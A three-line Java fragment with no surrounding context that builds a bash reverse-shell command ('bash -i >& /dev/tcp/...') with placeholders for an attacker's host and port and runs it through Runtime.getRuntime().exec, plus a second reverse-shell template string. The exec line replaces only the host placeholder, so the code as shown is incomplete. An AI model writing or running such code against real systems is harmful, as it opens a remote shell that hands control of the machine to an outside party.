String c = "bash -i >& /dev/tcp/{host}/{port} 0>&1";
Runtime.getRuntime().exec(c.replace("{host}", h));
String d = "bash -i >& /dev/tcp/${h}/${p}";
